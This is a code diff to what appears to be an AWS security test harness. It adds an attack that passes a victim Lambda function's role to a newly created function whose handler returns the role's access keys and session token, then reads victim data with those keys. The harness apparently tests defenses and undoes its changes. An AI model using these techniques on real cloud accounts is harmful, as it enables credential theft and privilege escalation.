@@ -6,6 +6,7 @@ import io
 import json
 import uuid
 import zipfile
+from contextlib import suppress
 from dataclasses import dataclass
 from typing import TYPE_CHECKING, Any
 
@@ -163,21 +164,48 @@ def tag_session(session: Any, victim: Victim, undo: ExitStack) -> None:
     read(session_of(found["AccessKeyId"], found["SecretAccessKey"], found["SessionToken"]), victim)
 
 
-def replace_function(session: Any, victim: Victim, undo: ExitStack) -> None:
-    """Replaces the code of the session function by a program that returns the credentials of its role."""
+def program_with_credentials() -> bytes:
+    """Returns a bundle with the handler of the session function, which returns the credentials of its role."""
     names = ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN")
     program = f"import os\ndef run_operation(event, context):\n    return [os.environ[name] for name in {names}]\n"
     archive = io.BytesIO()
     with zipfile.ZipFile(archive, "w") as file:
         file.writestr("code_runner/__init__.py", "")
         file.writestr("code_runner/handlers.py", program)
-    root: Any = any_client("lambda")
-    bundle = {"S3Bucket": victim.bundle["Bucket"], "S3Key": victim.bundle["Key"]}
+    return archive.getvalue()
+
+
+def read_with_credentials_of(functions: Any, name: str, victim: Victim) -> None:
+    credentials = json.loads(functions.invoke(FunctionName=name, Payload=b"{}")["Payload"].read())
+    read(session_of(*credentials), victim)
+
+
+def replace_function(session: Any, victim: Victim, undo: ExitStack) -> None:
+    root, bundle = any_client("lambda"), {"S3Bucket": victim.bundle["Bucket"], "S3Key": victim.bundle["Key"]}
     undo.callback(root.update_function_code, FunctionName=victim.function, **bundle)
     functions = session.client("lambda")
-    functions.update_function_code(FunctionName=victim.function, ZipFile=archive.getvalue())
-    credentials = json.loads(functions.invoke(FunctionName=victim.function, Payload=b"{}")["Payload"].read())
-    read(session_of(*credentials), victim)
+    functions.update_function_code(FunctionName=victim.function, ZipFile=program_with_credentials())
+    read_with_credentials_of(functions, victim.function, victim)
+
+
+def create_function(session: Any, victim: Victim, undo: ExitStack) -> None:
+    functions, name = session.client("lambda"), f"attack-{uuid.uuid4().hex[:8]}"
+    deployed = any_client("lambda").get_function_configuration(FunctionName=victim.function)
+    undo.callback(delete_function, name)
+    functions.create_function(
+        FunctionName=name,
+        Role=deployed["Role"],
+        Runtime=deployed["Runtime"],
+        Handler="code_runner.handlers.run_operation",
+        Code={"ZipFile": program_with_credentials()},
+    )
+    read_with_credentials_of(functions, name, victim)
+
+
+def delete_function(name: str) -> None:
+    functions = any_client("lambda")
+    with suppress(functions.exceptions.ResourceNotFoundException):
+        functions.delete_function(FunctionName=name)
 
 
 def replace_bundle(session: Any, victim: Victim, undo: ExitStack) -> None:
@@ -257,6 +285,7 @@ ATTACKS: dict[str, Attack] = {
     "create a role with the name and the tags": create_role,
     "deploy a template with such a role": deploy_template,
     "replace the code of the session function": replace_function,
+    "pass the role to a new function": create_function,
     "replace the published bundle": replace_bundle,
     "invoke the session function": invoke_function,
     "change the workflow": change_workflow,
